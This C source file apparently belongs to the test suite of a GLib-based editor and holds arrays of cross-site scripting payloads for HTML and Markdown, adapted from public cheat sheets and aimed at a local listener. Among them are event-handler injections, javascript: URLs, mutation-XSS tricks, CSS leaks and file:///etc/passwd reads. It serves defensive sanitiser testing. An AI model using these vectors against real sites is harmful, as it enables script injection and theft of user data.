/* hostile-html.c
 *
 * SPDX-License-Identifier: GPL-3.0-or-later
 *
 * The kinds of the public lists of cross-site scripting (OWASP's filter evasion, PortSwigger's cheat
 * sheet, html5sec), as cases of our own.
 */

#include "config.h"

#include "hostile-html.h"

#define RAN "document.documentElement.dataset.ran='ran'"

const HostileCase hostile_html[] = {
  { "handler", "<img src=x onerror=\"RUN\">" },
  { "handler", "<IMG SRC=x OnErRoR='RUN'>" },
  { "handler", "<img src=x onerror=RUN>" },
  { "handler", "<img/src=x/onerror=RUN>" },
  { "handler", "<img src=x onerror&#61;\"RUN\">" },
  { "handler", "<img src=x\nonerror\n=\n\"RUN\">" },
  { "handler", "<img \"\"\"><img src=x onerror=\"RUN\">\">" },
  { "handler", "<body onload=\"RUN\">" },
  { "handler", "<body onpageshow=\"RUN\" onresize=\"RUN\" onhashchange=\"RUN\">" },
  { "handler", "<div onmouseover=\"RUN\" onclick=\"RUN\" onfocus=\"RUN\" tabindex=0 autofocus>words</div>" },
  { "handler", "<input autofocus onfocus=\"RUN\">" },
  { "handler", "<select autofocus onfocus=\"RUN\"><option>a</select>" },
  { "handler", "<textarea autofocus onfocus=\"RUN\"></textarea>" },
  { "handler", "<details open ontoggle=\"RUN\"><summary onclick=\"RUN\">words</summary>more</details>" },
  { "handler", "<marquee onstart=\"RUN\" onbounce=\"RUN\">words</marquee>" },
  { "handler", "<video onerror=\"RUN\"><source src=x onerror=\"RUN\"></video>" },
  { "handler", "<audio src=x onerror=\"RUN\"></audio>" },
  { "handler", "<p style=\"animation: x 1s\" onanimationstart=\"RUN\" "
               "onanimationend=\"RUN\">words</p><style>@keyframes x {}</style>" },
  { "handler", "<p style=\"transition: color 1s\" ontransitionend=\"RUN\" onpointerenter=\"RUN\" "
               "onwheel=\"RUN\">words</p>" },
  { "handler", "<a href=\"#x\" onclick=\"RUN\" onauxclick=\"RUN\" oncopy=\"RUN\">words</a>" },
  { "handler", "<form onsubmit=\"RUN\" onformdata=\"RUN\"><button>words</button></form>" },
  { "handler", "<p onbeforetoggle=\"RUN\" popover id=pop>words</p><button popovertarget=pop>words</button>" },
  { "handler", "<button command=\"show-modal\" commandfor=dialog>words</button><dialog id=dialog "
               "oncancel=\"RUN\" onclose=\"RUN\">words</dialog>" },
  { "handler", "<p contenteditable oninput=\"RUN\" onbeforeinput=\"RUN\" onblur=\"RUN\">words</p>" },
  { "handler", "<p onscrollend=\"RUN\" oncontentvisibilityautostatechange=\"RUN\" "
               "style=\"content-visibility:auto\">words</p>" },
  { "handler", "<object data=x onerror=\"RUN\"></object>" },
  { "handler", "<link rel=stylesheet href=x onerror=\"RUN\" onload=\"RUN\">" },
  { "handler", "<style onload=\"RUN\" onerror=\"RUN\"></style>" },
  { "handler", "<script onerror=\"RUN\" src=x></script>" },
  { "handler", "<iframe onload=\"RUN\"></iframe>" },
  { "script", "<script>RUN</script>" },
  { "script", "<SCRIPT>RUN</SCRIPT>" },
  { "script", "<script\n>RUN</script\n>" },
  { "script", "<script/x>RUN</script>" },
  { "script", "<<script>RUN//<</script>" },
  { "script", "<scr<script>ipt>RUN</scr</script>ipt>" },
  { "script", "<script src=\"HOST/script.js\"></script>" },
  { "script", "<script type=module>RUN; import('HOST/import.js')</script>" },
  { "script", "<script type=importmap>{ \"imports\": { \"x\": \"HOST/map.js\" } }</script><script "
              "type=module>import 'x'</script>" },
  { "script", "<script type=speculationrules>{ \"prefetch\": [{ \"source\": \"list\", \"urls\": "
              "[\"HOST/speculate\"] }] }</script>" },
  { "script", "<script>fetch('HOST/fetch'); navigator.sendBeacon('HOST/beacon'); new Image().src = "
              "'HOST/image'</script>" },
  { "script", "<script>new WebSocket('WS/'); new EventSource('HOST/events'); new "
              "XMLHttpRequest().open('GET', 'HOST/xhr')</script>" },
  { "script",
    "<script>navigator.serviceWorker.register('HOST/worker.js'); new Worker('HOST/worker.js')</script>" },
  { "script", "<script>window.name = 'RUN'; location = 'HOST/location'; window.open('HOST/open')</script>" },
  { "script", "<script>document.write('<img src=\"HOST/written\">')</script>" },
  { "script", "<noscript><img src=\"HOST/noscript\"></noscript>" },
  { "script", "<noscript><p title=\"</noscript><img src=x onerror=RUN>\"></noscript>" },
  { "address", "<a href=\"javascript:RUN\">words</a>" },
  { "address", "<a href=\"JaVaScRiPt:RUN\">words</a>" },
  { "address", "<a href=\" javascript:RUN\">words</a>" },
  { "address", "<a href=\"java\tscript:RUN\">words</a>" },
  { "address", "<a href=\"java\nscript:RUN\">words</a>" },
  { "address", "<a href=\"java&#9;script:RUN\">words</a>" },
  { "address", "<a href=\"java&NewLine;script:RUN\">words</a>" },
  { "address", "<a href=\"javascript&colon;RUN\">words</a>" },
  { "address", "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;RUN\">words</a>" },
  { "address", "<a href=\"&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;RUN\">words</a>" },
  { "address", "<a href=\"&#0000106avascript:RUN\">words</a>" },
  { "address", "<a href=\"&#1;javascript:RUN\">words</a>" },
  { "address", "<a href=\"\\x01javascript:RUN\">words</a>" },
  { "address", "<a href=\"javascript://%0aRUN\">words</a>" },
  { "address", "<a href=\"vbscript:RUN\">words</a>" },
  { "address", "<a href=\"data:text/html,<script>RUN</script>\">words</a>" },
  { "address", "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">words</a>" },
  { "address", "<a href=\"blob:HOST/x\">words</a>" },
  { "address", "<a href=\"view-source:HOST/source\">words</a>" },
  { "address", "<a href=\"feed:javascript:RUN\">words</a>" },
  { "address", "<a href=\"about:blank\">words</a>" },
  { "address", "<a href=\"webkit://inspector\">words</a>" },
  { "address", "<a href=\"lede-page:/1\">words</a>" },
  { "address", "<a href=\"lede-theme:lede/page.css\">words</a>" },
  { "address", "<img src=\"javascript:RUN\">" },
  { "address", "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='RUN'/>\">" },
  { "address", "<blockquote cite=\"javascript:RUN\">words</blockquote><q "
               "cite=\"javascript:RUN\">words</q><del cite=\"HOST/cite\">words</del>" },
  { "address", "<area href=\"javascript:RUN\"><map name=m><area shape=rect coords=\"0,0,999,999\" "
               "href=\"HOST/area\"></map><img usemap=\"#m\" src=x>" },
  { "fetch", "<img src=\"HOST/img.png\">" },
  { "fetch", "<img src=x srcset=\"HOST/srcset.png 1x, HOST/srcset2.png 2x\">" },
  { "fetch", "<img src=x lowsrc=\"HOST/lowsrc\" dynsrc=\"HOST/dynsrc\" longdesc=\"HOST/longdesc\">" },
  { "fetch", "<picture><source srcset=\"HOST/source.png\"><source type=image/webp "
             "srcset=\"HOST/source.webp\"><img src=x></picture>" },
  { "fetch", "<video src=\"HOST/video\" poster=\"HOST/poster\" autoplay preload=auto></video>" },
  { "fetch", "<video autoplay><source src=\"HOST/source\"><track default src=\"HOST/track\"></video>" },
  { "fetch", "<audio src=\"HOST/audio\" autoplay></audio>" },
  { "fetch", "<input type=image src=\"HOST/input.png\" formaction=\"HOST/formaction\">" },
  { "fetch", "<table background=\"HOST/table.png\"><tr background=\"HOST/tr.png\"><td "
             "background=\"HOST/td.png\">words</table>" },
  { "fetch", "<body background=\"HOST/body.png\">words" },
  { "fetch",
    "<bgsound src=\"HOST/bgsound\"><embed src=\"HOST/embed\"><applet archive=\"HOST/applet\"></applet>" },
  { "fetch", "<object data=\"HOST/object\"><param name=movie value=\"HOST/param\"></object>" },
  { "fetch", "<object type=text/html data=\"HOST/object.html\"></object>" },
  { "fetch", "<html manifest=\"HOST/manifest\">words" },
  { "fetch", "<a href=\"HOST/ping\" ping=\"HOST/ping2\">words</a>" },
  { "fetch", "<a href=\"HOST/target\" target=_blank rel=opener>words</a>" },
  { "fetch", "<a href=\"HOST/download\" download>words</a>" },
  { "fetch", "<a href=\"//127.0.0.1:PORT/relative\">words</a>" },
  { "fetch", "<img src=\"//127.0.0.1:PORT/relative.png\">" },
  { "fetch", "<img src=\"HOST/lazy.png\" loading=lazy fetchpriority=high>" },
  { "fetch", "<portal src=\"HOST/portal\"></portal><fencedframe src=\"HOST/fenced\"></fencedframe>" },
  { "link", "<link rel=stylesheet href=\"HOST/style.css\">" },
  { "link", "<link rel=\"alternate stylesheet\" title=x href=\"HOST/alternate.css\">" },
  { "link", "<link rel=preload as=image href=\"HOST/preload.png\">" },
  { "link", "<link rel=preload as=image imagesrcset=\"HOST/preloadset.png 1x\">" },
  { "link", "<link rel=modulepreload href=\"HOST/module.js\">" },
  { "link", "<link rel=prefetch href=\"HOST/prefetch\"><link rel=prerender href=\"HOST/prerender\">" },
  { "link", "<link rel=preconnect href=\"HOST/\"><link rel=dns-prefetch href=\"HOST/\">" },
  { "link", "<link rel=icon href=\"HOST/icon.png\"><link rel=apple-touch-icon href=\"HOST/touch.png\">" },
  { "link", "<link rel=manifest href=\"HOST/manifest\"><link rel=import href=\"HOST/import.html\">" },
  { "link", "<link rel=search href=\"HOST/search\"><link rel=pingback href=\"HOST/pingback\"><link "
            "rel=expect href=\"#x\" blocking=render>" },
  { "style", "<style>body { background: url(HOST/background.png) }</style>" },
  { "style", "<style>@import url(\"HOST/import.css\"); @import 'HOST/import2.css' layer(x);</style>" },
  { "style",
    "<style>@font-face { font-family: x; src: url(HOST/font.woff) } body { font-family: x }</style>" },
  { "style", "<style>p:before { content: url(HOST/content.png) } li { list-style-image: url(HOST/list.png) "
             "}</style><p>x<ul><li>x</ul>" },
  { "style", "<style>p { cursor: url(HOST/cursor.png), auto; filter: url(HOST/filter.svg#x); mask: "
             "url(HOST/mask.svg#x) }</style><p>x" },
  { "style", "<style>p { background: image-set(\"HOST/set.png\" 1x); border-image: url(HOST/border.png) 1 "
             "}</style><p>x" },
  { "style", "<style>a[href^=\"h\"] { background: url(HOST/leak) }</style><a href=\"HOST/x\">words</a>" },
  { "style", "<p style=\"background: url(HOST/inline.png)\">words</p>" },
  { "style", "<p style=\"background: u\\rl(HOST/escaped.png)\">words</p>" },
  { "style", "<p style=\"background:url('HOST/quoted.png');width:expression(RUN)\">words</p>" },
  { "style",
    "<p style=\"-moz-binding: url(HOST/binding.xml#x); behavior: url(HOST/behavior.htc)\">words</p>" },
  { "style", "<p style=\"list-style: url(javascript:RUN); background: url(javascript:RUN)\">words</p>" },
  { "style", "<p style=\"--x: url(HOST/variable.png); background: var(--x)\">words</p>" },
  { "style", "<div style=\"position:fixed;inset:0\"><a href=\"HOST/overlay\" "
             "style=\"display:block;height:100%\">words</a></div>" },
  { "style", "<style>@namespace url(HOST/namespace); @media all { body { background: url(HOST/media.png) } "
             "}</style>" },
  { "style", "<?xml-stylesheet href=\"HOST/xml.css\"?>words" },
  { "frame", "<iframe src=\"HOST/frame\"></iframe>" },
  { "frame", "<iframe src=\"javascript:parent.RUN\"></iframe>" },
  { "frame", "<iframe srcdoc=\"<script>parent.RUN</script><img src='HOST/srcdoc.png'>\"></iframe>" },
  { "frame", "<iframe src=\"data:text/html,<img src='HOST/dataframe.png'>\"></iframe>" },
  { "frame", "<iframe src=\"file:///etc/passwd\"></iframe>" },
  { "frame", "<frameset><frame src=\"HOST/frame2\"></frameset>" },
  { "frame", "<iframe sandbox=\"allow-scripts allow-top-navigation\" src=\"HOST/sandbox\"></iframe>" },
  { "frame", "<object data=\"javascript:RUN\"></object><embed src=\"javascript:RUN\"><object "
             "data=\"data:text/html,<script>RUN</script>\"></object>" },
  { "form", "<form action=\"HOST/form\" method=post><button>words</button></form>" },
  { "form", "<form action=\"javascript:RUN\"><button>words</button></form>" },
  { "form", "<form id=f></form><button form=f formaction=\"HOST/formaction\">words</button>" },
  { "form", "<button formaction=\"javascript:RUN\">words</button><form><input type=submit "
            "formaction=\"javascript:RUN\"></form>" },
  { "form", "<isindex action=\"javascript:RUN\" type=image><keygen autofocus onfocus=\"RUN\">" },
  { "form", "<form action=\"HOST/steal\"><textarea name=x>" },
  { "form", "<form><input type=file name=x><input type=password name=password></form>" },
  { "meta", "<meta http-equiv=refresh content=\"0; url=HOST/refresh\">" },
  { "meta", "<meta http-equiv=refresh content=\"0; url=javascript:RUN\">" },
  { "meta", "<meta http-equiv=refresh content=\"0; url=data:text/html,<script>RUN</script>\">" },
  { "meta", "<meta http-equiv=Content-Security-Policy content=\"default-src *; script-src * "
            "'unsafe-inline'\"><script>RUN</script>" },
  { "meta", "<meta http-equiv=Set-Cookie content=\"a=b\"><meta name=referrer content=unsafe-url>" },
  { "meta", "<meta http-equiv=x-dns-prefetch-control content=on><a href=\"HOST/prefetch\">words</a>" },
  { "meta", "<meta charset=utf-7>+ADw-script+AD4-RUN+ADw-/script+AD4-" },
  { "meta", "<base href=\"HOST/base/\"><img src=\"relative.png\"><a href=\"relative\">words</a>" },
  { "meta", "<base href=\"javascript:/a/-RUN//\"><a href=\"x\">words</a>" },
  { "meta", "<base target=_blank>" },
  { "svg", "<svg onload=\"RUN\"></svg>" },
  { "svg", "<svg><script>RUN</script></svg>" },
  { "svg", "<svg><script href=\"HOST/svg.js\"/><script xlink:href=\"HOST/svg2.js\"/></svg>" },
  { "svg", "<svg><image href=\"HOST/svgimage.png\"/><image xlink:href=\"HOST/svgimage2.png\"/></svg>" },
  { "svg", "<svg><use href=\"HOST/use.svg#x\"/><use href=\"data:image/svg+xml,<svg id='x' "
           "xmlns='http://www.w3.org/2000/svg'/>#x\"/></svg>" },
  { "svg", "<svg><a xlink:href=\"javascript:RUN\"><text y=20>words</text></a></svg>" },
  { "svg",
    "<svg><a><animate attributeName=href values=\"javascript:RUN\"/><text y=20>words</text></a></svg>" },
  { "svg", "<svg><animate onbegin=\"RUN\" attributeName=x dur=1s></svg>" },
  { "svg", "<svg><set attributeName=onmouseover to=\"RUN\"/><set href=\"#x\" attributeName=href "
           "to=\"javascript:RUN\"/></svg>" },
  { "svg",
    "<svg><foreignObject><iframe src=\"HOST/foreign\"></iframe><body onload=\"RUN\"></foreignObject></svg>" },
  { "svg", "<svg><feImage href=\"HOST/feimage.png\"/><filter id=f><feImage "
           "xlink:href=\"HOST/feimage2.png\"/></filter><rect filter=\"url(#f)\"/></svg>" },
  { "svg", "<svg><style>@import 'HOST/svgimport.css'; * { fill: url(HOST/fill.svg#x) }</style><rect width=9 "
           "height=9 /></svg>" },
  { "svg", "<svg><p><style><img src=\"</style><img src=x onerror=RUN>\"></p></svg>" },
  { "svg", "<svg></p><style><a id=\"</style><img src=x onerror=RUN>\">" },
  { "svg", "<svg><desc><![CDATA[</desc><script>RUN</script>]]></svg>" },
  { "math", "<math href=\"javascript:RUN\">words</math>" },
  { "math", "<math><maction actiontype=\"statusline#HOST/math\" "
            "xlink:href=\"javascript:RUN\">words</maction></math>" },
  { "math",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=RUN&gt;\">" },
  { "math", "<math><annotation-xml encoding=\"text/html\"><script>RUN</script></annotation-xml></math>" },
  { "mutation", "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=RUN>" },
  { "mutation", "<p title=\"&lt;/p>&lt;img src=x onerror=RUN>\">words</p>" },
  { "mutation", "<xmp><p title=\"</xmp><img src=x onerror=RUN>\"></xmp>" },
  { "mutation", "<listing>&lt;img src=x onerror=RUN&gt;</listing><plaintext>&lt;img src=x onerror=RUN&gt;" },
  { "mutation", "<textarea></textarea><img src=x onerror=RUN></textarea>" },
  { "mutation", "<title><img title=\"</title><img src=x onerror=RUN>\"></title>" },
  { "mutation", "<noembed><img title=\"</noembed><img src=x onerror=RUN>\"></noembed><noframes><p "
                "title=\"</noframes><img src=x onerror=RUN>\">" },
  { "mutation", "<template><img src=\"HOST/template\" onerror=\"RUN\"></template><template "
                "shadowrootmode=open><img src=\"HOST/shadow\"></template>" },
  { "mutation", "<table><td><form><input name=parentNode></table><img src=x onerror=RUN>" },
  { "mutation", "<select><style></select><img src=x onerror=RUN></style>" },
  { "mutation", "<img src=x title=\"`><img src=x onerror=RUN>\">" },
  { "mutation", "<a title='\"><img src=x onerror=RUN>' class='\"><script>RUN</script>'>words</a>" },
  { "mutation", "<abbr title=\"x&quot; onmouseover=&quot;RUN\">words</abbr>" },
  { "mutation", "<p lang='\"><script>RUN</script>' dir=\"x><img src=x onerror=RUN>\">words</p>" },
  { "mutation", "<!--><img src=x onerror=RUN>-->" },
  { "mutation", "<!--><script>RUN</script>--!><img src=x onerror=RUN>" },
  { "mutation", "<!-- --!><img src=x onerror=RUN> -->" },
  { "mutation", "<![CDATA[<img src=x onerror=RUN>]]><![if gte IE 4]><script>RUN</script><![endif]>" },
  { "mutation", "<?php echo '<script>RUN</script>' ?><img src=x onerror=RUN>" },
  { "mutation", "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>&e;<script>RUN</script>" },
  { "mutation", "</p></div></body></html><script>RUN</script><img src=\"HOST/after\">" },
  { "mutation",
    "<div id=lede><a id=lede name=update></a><form name=body><input name=parentNode></form>words</div>" },
  { "mutation", "<p data-block=locked data-caret data-region=body class=\"block\">words</p>" },
  { "mutation", "<img src=\"x:x\" alt=\"``onerror=RUN\"><img src='x' alt='\" onerror=\"RUN'>" },
  { "file", "<img src=\"file:///etc/passwd\"><a href=\"file:///etc/passwd\">words</a>" },
  { "file",
    "<link rel=stylesheet href=\"file:///etc/passwd\"><object data=\"file:///etc/passwd\"></object>" },
  { "file", "<script>fetch('file:///etc/passwd').then(r => r.text()).then(t => { RUN })</script>" },
  { "file", "<embed src=\"file:///etc/passwd\"><video src=\"file:///etc/passwd\"></video><a "
            "href=\"resource:///org/lede/Lede/x\">words</a>" },
};

const guint n_hostile_html = G_N_ELEMENTS (hostile_html);

const HostileCase hostile_markdown[] = {
  { "destination", "[words](javascript:RUN)" },
  { "destination", "[words](JavaScript:RUN)" },
  { "destination", "[words](<javascript:RUN>)" },
  { "destination", "[words](  javascript:RUN  )" },
  { "destination", "[words](java&#115;cript:RUN)" },
  { "destination", "[words](javascript&colon;RUN)" },
  { "destination", "[words](javascript&#58;RUN)" },
  { "destination", "[words](&#x1;javascript:RUN)" },
  { "destination", "[words](data:text/html,<script>RUN</script>)" },
  { "destination", "[words](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)" },
  { "destination", "[words](vbscript:RUN)" },
  { "destination", "[words](file:///etc/passwd)" },
  { "destination", "[words](lede-page:/1)" },
  { "destination", "[words](//127.0.0.1:PORT/link)" },
  { "destination", "[words](HOST/link \"title\\\" onclick=\\\"RUN\")" },
  { "destination", "[words](HOST/a\"onclick=\"RUN)" },
  { "destination", "[*words*](javascript:RUN \"x\")" },
  { "image", "![words](HOST/image.png)" },
  { "image", "![words](javascript:RUN)" },
  { "image", "![words](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)" },
  { "image", "![x\" onerror=\"RUN](HOST/x.png \"t\\\" onerror=\\\"RUN\")" },
  { "image", "![](photo:\"onerror=\"RUN)" },
  { "image", "![](<photo:x\" onerror=\"RUN>)" },
  { "image", "![](file:///etc/passwd)" },
  { "image", "![](lede-photo:../../../../etc/passwd)" },
  { "image", "![words][i]\n\n[i]: HOST/defined.png \"x\\\"onerror=\\\"RUN\"" },
  { "image", "[![words](HOST/linked.png)](HOST/linked)" },
  { "autolink", "<javascript:RUN>" },
  { "autolink", "<HOST/auto>" },
  { "autolink", "HOST/bare" },
  { "autolink", "HOST/bare?\"onclick=\"RUN" },
  { "autolink", "www.127.0.0.1.example:PORT/<script>RUN</script>" },
  { "autolink", "https://video.example/\"><script>RUN</script>" },
  { "autolink", "<mailto:x@y.example\" onclick=\"RUN>" },
  { "reference", "[words]\n\n[words]: javascript:RUN" },
  { "reference", "[words][a]\n\n[a]: data:text/html,<script>RUN</script>" },
  { "reference", "[words]\n\n[words]: <javascript:RUN> 'x'" },
  { "inline", "Words <script>RUN</script> more" },
  { "inline", "Words <img src=x onerror=\"RUN\"> more" },
  { "inline", "Words <b onmouseover=\"RUN\">bold</b> <a href=\"javascript:RUN\">a</a>" },
  { "inline",
    "Words <span style=\"background:url(HOST/span.png)\" class='\"><script>RUN</script>'>x</span>" },
  { "inline", "Words <a href='HOST/x' onclick='RUN' target=_blank ping='HOST/ping'>x</a>" },
  { "inline", "Words <svg onload=RUN> <math><mi xlink:href=\"javascript:RUN\">" },
  { "inline", "Words <!-- --!><script>RUN</script> --> more" },
  { "inline", "Words <?x ?><script>RUN</script> <![CDATA[<script>RUN</script>]]>" },
  { "inline", "`<script>RUN</script>` and ``<img src=x onerror=RUN>``" },
  { "inline", "*<script>*RUN</script>" },
  { "inline", "| a |\n| --- |\n| <img src=x onerror=RUN> <script>RUN</script> |" },
  { "block", "```\"><script>RUN</script>\n<script>RUN</script>\n```" },
  { "block", "```x onload=RUN\nwords\n```" },
  { "block", "> [!PULLQUOTE]\n> <img src=x onerror=RUN>\n>\n> <script>RUN</script>" },
  { "block", "> [!FACTBOX]\n> <div onclick=\"RUN\"><img src=\"HOST/fact.png\"></div>" },
  { "block", "> [!RELATED]\n> - [words](javascript:RUN)" },
  { "block", "- <script>RUN</script>\n- <iframe src=\"HOST/item\"></iframe>" },
  { "block", "# <script>RUN</script> [x](javascript:RUN)" },
  { "block", "<!-- wp:html -->\n<script>RUN</script><img src=\"HOST/wp.png\">\n<!-- /wp:html -->" },
  { "block",
    "<!-- wp:embed {\"url\":\"HOST/embed\"} -->\n<iframe src=\"HOST/embed\"></iframe>\n<!-- /wp:embed -->" },
  { "block", "<!--\n<script>RUN</script>\n" },
};

const guint n_hostile_markdown = G_N_ELEMENTS (hostile_markdown);

/* Returns: (transfer full): the case for a listener at a port of this computer. */
char *
hostile_fill_in (const char *text, guint16 port)
{
  g_autoptr (GString) out = g_string_new (text);
  g_autofree char *number = g_strdup_printf ("%u", port);
  g_autofree char *host = g_strdup_printf ("http://127.0.0.1:%u", port);

  g_string_replace (out, "HOST", host, 0);
  g_string_replace (out, "'WS/", "'ws://127.0.0.1:PORT/", 0);
  g_string_replace (out, "PORT", number, 0);
  g_string_replace (out, "RUN", RAN, 0);

  return g_string_free_and_steal (g_steal_pointer (&out));
}
